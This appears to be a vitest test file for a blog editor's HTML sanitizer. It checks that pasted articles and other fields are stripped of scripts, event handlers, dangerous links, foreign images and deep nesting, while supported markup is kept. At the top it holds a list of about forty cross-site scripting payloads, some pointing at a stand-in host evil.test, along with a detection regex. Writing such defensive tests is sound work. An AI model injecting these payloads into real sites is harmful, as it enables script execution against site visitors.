import { describe, expect, test } from 'vitest';
import { draft, published, editorApp } from '../../../test/writing.ts';
import { sanitizeArticle } from './sanitize.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1) alt=x>',
  '<img src="javascript:alert(1)" alt="x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">',
  '<img src="//evil.test/x.png" alt="x">',
  '<img src="http://evil.test/x.png" alt="x">',
  '<img src="/x.webp" srcset="//evil.test/x.png 2x" alt="x">',
  '<img src="/x.webp" alt="&quot; onerror=&quot;alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.test"><input name="p"><button>x</button></form>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test">',
  '<div id="root" class="x" data-x="y">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1) alt=x>',
  '<!--><script>alert(1)</script>-->',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<aside data-callout="tip" onclick="alert(1)" style="position:fixed" id="root" class="x">x</aside>',
  '<aside data-callout="tip&quot; onclick=&quot;alert(1)">x</aside>',
  '<aside data-callout="note"><script>alert(1)</script><iframe src="//evil.test"></iframe></aside>',
  '<table onclick="alert(1)" style="position:fixed" background="//evil.test/x.png"><tr><td onmouseover="alert(1)" class="x">x</td></tr></table>',
  '<table><tr><td><table><td><svg onload=alert(1)></table><form action="//evil.test"></table>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
];
const dangerous =
  /<\/?(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|noscript|textarea|video|audio|source|xmp|div)\b|<[^>]*\s(on\w+|style|id="(?!part-)|class|data-x)=|(href|src|srcset)="?\s*(javascript|data|vbscript|\/\/|http:)/i;

const sanitized = (html: string) => sanitizeArticle(html, []).content;

test('removes everything of an attack that could run or load', () => {
  for (const attack of attacks) {
    const content = sanitized(`<p>Before</p>${attack}`);
    expect(content).toContain('<p>Before</p>');
    // Text in quotes is not an attribute.
    expect([attack, content.replace(/ (alt|title)="[^"]*"/g, '')]).toEqual([
      attack,
      expect.not.stringMatching(dangerous),
    ]);
  }
});

test('an attack in any other field is text on the page', async () => {
  await using app = await editorApp();
  const attack = '</title></script><img src=x onerror=alert(1)>';
  const fields = { title: attack, excerpt: attack, author: attack, tags: attack };
  const image = { imageUrl: '/x.webp', imageAlt: `"${attack}` };
  await app.createPost({ ...published, ...fields, ...image });
  for (const url of [`/blog/${draft.slug}`, '/blog', '/blog/rss.xml', '/sitemap.xml'])
    expect((await app.inject(url)).body).not.toContain('<img src=x');
});

test('leaves supported markup unchanged', () => {
  const content = [
    '<h2>Head</h2><h3>Sub</h3><p>One <strong>two</strong> <em>three</em> <code>four</code><br />five</p>',
    '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol><blockquote><p>c</p></blockquote>',
    '<aside data-callout="note"><p>n</p></aside><aside data-callout="warning"><ul><li>w</li></ul></aside>',
    '<pre><code>x &lt; y</code></pre><hr />',
    '<p id="part-a">H<sub>2</sub>O, 10<sup>6</sup>, <del>old</del> <a href="#part-a">up</a><a id="part-b"></a></p>',
    '<dl><dt>Term</dt><dd>What it is</dd></dl><details id="part-d"><summary>More</summary><p>d</p></details>',
    '<table><caption>T</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
    '<p><a href="/contact#schedule">in</a> <a href="mailto:a@b.test" rel="noopener noreferrer">mail</a></p>',
    '<figure><img src="/images/x.webp" alt="A &amp; B" width="640" height="360" loading="lazy" /><figcaption>F</figcaption></figure>',
  ].join('');
  expect(sanitized(content)).toBe(content);
});

const upload = '/uploads/00000000-0000-4000-8000-000000000001';
test.each([
  [
    'attributes of tables that only an editor needs are removed',
    '<table style="min-width: 75px"><colgroup><col style="min-width: 25px"></colgroup><tbody>' +
      '<tr data-head=""><th colwidth="90" align="left">h</th></tr></tbody></table>',
    '<table><tbody><tr><th>h</th></tr></tbody></table>',
  ],
  [
    'a callout of an unknown kind is a note, and tables keep only spans and scopes they can have',
    '<aside data-callout="danger"><p>A</p></aside><aside>B</aside>' +
      '<aside data-callout="tip" role="alert" aria-label="x"><p>C</p></aside>' +
      '<table><tbody><tr><th scope="javascript:x" colspan="100000000">D</th>' +
      '<td rowspan="99999" colspan="-1">E</td><td rowspan="2">F</td></tr></tbody></table>',
    '<aside data-callout="note"><p>A</p></aside><aside data-callout="note">B</aside>' +
      '<aside data-callout="tip"><p>C</p></aside>' +
      '<table><tbody><tr><th>D</th><td>E</td><td rowspan="2">F</td></tr></tbody></table>',
  ],
  [
    'what no text contains is removed, also when an entity names it',
    '<p>A\u000b&#11;\uffff&#xFFFE;</p><a href="&#xFDD0;javascript:alert(1)">B</a><img src="/x" alt="&#1;">',
    '<p>A</p><a rel="noopener noreferrer">B</a><img src="/x" alt="" loading="lazy" />',
  ],
  [
    'addresses without a protocol get theirs, and lists keep their numbers',
    '<a href=" www.example.com">A</a><a href="a@b.com">B</a><ol start="3" type="a"><li>C</li></ol>',
    '<a href="https://www.example.com" rel="noopener noreferrer">A</a><a href="mailto:a@b.com" rel="noopener noreferrer">B</a><ol start="3" type="a"><li>C</li></ol>',
  ],
  [
    'foreign markup is normalized, external links get rel, and uploads srcset',
    `<h1>A</h1><div><b>B</b><i>C</i></div><a href="https://x.test" target="_blank">D</a><img src="${upload}-1280.webp" alt="E">\0`,
    '<h2>A</h2><p><strong>B</strong><em>C</em></p>' +
      '<a href="https://x.test" target="_blank" rel="noopener noreferrer">D</a>' +
      `<img src="${upload}-1280.webp" alt="E" srcset="${upload}-640.webp 640w, ${upload}-1280.webp 1280w" sizes="(min-width: 62em) 45rem, 92vw" loading="lazy" />`,
  ],
])('%s', (_what, written, stored) => {
  expect(sanitized(written)).toBe(stored);
});

test('ids cannot be those of the page, and links to them follow', () => {
  const written =
    '<h2 id="root">A</h2><h2 id="root">B</h2><p id="größe">C</p><a name="old">D</a><p id="a b">E</p>' +
    '<a href="#root">1</a><a href="#gr%C3%B6%C3%9Fe">2</a><a href="/blog/other#root">3</a><a href="#old">4</a>';
  const { content, removed, deadLinks } = sanitizeArticle(written, []);
  expect(content).toBe(
    '<h2 id="part-root">A</h2><h2>B</h2><p id="part-größe">C</p><a id="part-old">D</a><p>E</p>' +
      '<a href="#part-root">1</a><a href="#part-größe">2</a><a href="/blog/other#part-root">3</a><a href="#part-old">4</a>',
  );
  expect(removed).toEqual(['id="root" of <h2>', 'id="a b" of <p>']);
  expect(deadLinks).toEqual([]);
  expect(sanitizeArticle(content, []).content).toBe(content);
});

test('lists what it removes, and links to parts that do not exist', () => {
  const { removed, deadLinks } = sanitizeArticle(
    '<h2>Costs</h2><p style="color:red" class="x"><span>A</span> <u>B</u></p>' +
      '<iframe src="https://video.example/1"></iframe><form action="/f"></form>' +
      '<section id="s">C</section><p onclick="x()" lang="fr">D</p>' +
      '<a href="file:///C:/plan.docx">E</a><a href="/a" target="promo">F</a>' +
      '<a href="#part-costs">G</a><a href="#nowhere">H</a><a href="#top">I</a><ol reversed><li value="7">J</li></ol>' +
      '<p hidden>K</p><div style="display: none">L</div>',
    [],
  );
  expect(removed).toEqual([
    '<u>',
    '<iframe src="https://video.example/1">',
    '<form action="/f">',
    'id="s" of <section>',
    'onclick="x()" of <p>',
    'lang="fr" of <p>',
    'href="file:///C:/plan.docx" of <a>',
    'target="promo" of <a>',
    'reversed="" of <ol>',
    'value="7" of <li>',
    'hidden="" of <p>',
    'style="display: none" of <div>',
  ]);
  expect(deadLinks).toEqual(['#nowhere']);
});

test('lists pictures without an address, and relative addresses of pictures and links', () => {
  const { content, foreignPictures, removed, deadLinks } = sanitizeArticle(
    '<p><img src="images/chart.png" alt="A">B<img data-src="/c.png" alt="C"><img src=" ">' +
      '<img data-upload="1" alt="D"><a href="docs/a.md">E</a><a href="../f">F</a>' +
      '<a href="/g">G</a><a href="?h">H</a><a href="HTTPS://i.test">I</a></p>',
    [],
  );
  expect(content).toBe(
    '<p>B<a href="docs/a.md">E</a><a href="../f">F</a><a href="/g">G</a><a href="?h">H</a>' +
      '<a href="HTTPS://i.test" rel="noopener noreferrer">I</a></p>',
  );
  expect({ foreignPictures, removed, deadLinks }).toEqual({
    foreignPictures: ['images/chart.png'],
    removed: ['<img alt="C">', '<img>'],
    deadLinks: ['docs/a.md', '../f'],
  });
});

test('a save answers what it removed and what leads nowhere', async () => {
  await using app = await editorApp();
  const gone = `${upload}-1280.webp`;
  const lost = `<iframe src="/x"></iframe><a href="#x">x</a><a href="${upload}-card.jpg">x</a>`;
  const losses = {
    removed: ['<iframe src="/x">'],
    unresolved: ['#x', `${upload}-card.jpg`, gone],
  };
  const saved = await app.createPost({ content: lost, imageUrl: gone, imageAlt: 'E' });
  expect(saved).toMatchObject(losses);
  const { id, version } = saved;
  const again = await app.mutate('update', { ...draft, id, version, content: lost });
  expect(again.json().result.data).toMatchObject({
    ...losses,
    unresolved: losses.unresolved.slice(0, 2),
  });
  const ours = await app.mutate('update', { ...draft, id, version: version + 1 });
  expect(ours.json().result.data).not.toHaveProperty('removed');
  expect(ours.json().result.data).not.toHaveProperty('unresolved');
});

test('pages and feeds show the kind of a callout as text, the API has it as stored', async () => {
  await using app = await editorApp();
  const content = '<aside data-callout="tip"><p>Ask &lt;first&gt;</p></aside>';
  const { slug } = await app.createPost({ ...published, content });
  const label = '<p><strong>Tip</strong></p>';
  const text = '<p>Ask &lt;first&gt;</p></aside>';
  const page = (await app.inject(`/blog/${slug}`)).body;
  expect(page).toContain(`<aside data-callout="tip" role="note">${label}${text}`);
  const feed = (await app.inject('/blog/rss.xml')).body;
  expect(feed).toContain('&lt;strong&gt;Tip&lt;/strong&gt;');
  expect((await app.inject(`/api/blog/${slug}`)).json().post.content).toBe(content);
});

test('accepts an article of almost the maximum size', async () => {
  await using app = await editorApp();
  const content = `<p>${'word '.repeat(50)}word</p>`.repeat(1900);
  expect((await app.createPost({ content })).content).toHaveLength(content.length);
});

describe('an image of another site', () => {
  const image = (src: string) => `<img src="${src}" alt="E">`;
  const there = 'https://pictures.test/a.png';

  test('is removed from an article, which the save reports, and rejected as imageUrl', async () => {
    await using app = await editorApp();
    const content = `<p>Before</p>${image(there)}${image('http://x.test/b.png')}<p>After</p>`;
    const saved = await app.createPost({ content });
    expect(saved.content).toBe('<p>Before</p><p>After</p>');
    expect(saved.foreignPictures).toEqual([there, 'http://x.test/b.png']);
    const { id, version } = saved;
    const again = await app.mutate('update', { ...draft, id, version, content: image(there) });
    expect(again.json().result.data.foreignPictures).toEqual([there]);
    const ours = await app.mutate('update', { ...draft, id, version: version + 1 });
    expect(ours.json().result.data).not.toHaveProperty('foreignPictures');
    const response = await app.mutate('create', { ...draft, imageUrl: there, imageAlt: 'E' });
    expect(response.json().error.data.fields).toEqual({
      imageUrl: 'This picture is on another site. Upload it here instead.',
    });
  });

  test('is a character if it is only the look of one', () => {
    const emoji = '<img class="emoji" src="https://chat.test/1.png" alt="👩‍🎤">';
    const { content, foreignPictures } = sanitizeArticle(`<p>A${emoji} <b>B${emoji}</b></p>`, []);
    expect(content).toBe('<p>A👩‍🎤 <strong>B👩‍🎤</strong></p>');
    expect(foreignPictures).toEqual([]);
  });

  test('stays when its host is configured', async () => {
    await using app = await editorApp({ PICTURE_HOSTS: 'pictures.test' });
    const fields = { content: image(there), imageUrl: there, imageAlt: 'E' };
    const { content } = await app.createPost(fields);
    expect(content).toContain(`<img src="${there}"`);
  });
});

const nested = (depth: number) => `${'<b>'.repeat(depth)}x${'</b>'.repeat(depth)}`;

test('an article is rejected past 100 levels or 2,000 elements', async () => {
  await using app = await editorApp();
  expect((await app.createPost({ content: nested(100) })).content).toContain('x');
  for (const content of [nested(101), '<b>'.repeat(8000), '<p><li>'.repeat(4000)]) {
    const response = await app.mutate('create', { ...draft, slug: 'deep', content });
    expect(response.json().error.data.fields).toEqual({
      content: 'Must not be nested more than 100 levels deep',
    });
  }
  const fields = (count: number) => '<p>word</p>'.repeat(count);
  expect((await app.createPost({ slug: 'wide', content: fields(2000) })).content).toBe(
    fields(2000),
  );
  for (const content of [fields(2001), fields(40_000), '<'.repeat(500_000)]) {
    const refused = await app.mutate('create', { ...draft, slug: 'many', content });
    expect(refused.json().error.data.fields).toEqual({
      content: 'Must not have more than 2,000 elements',
    });
  }
});
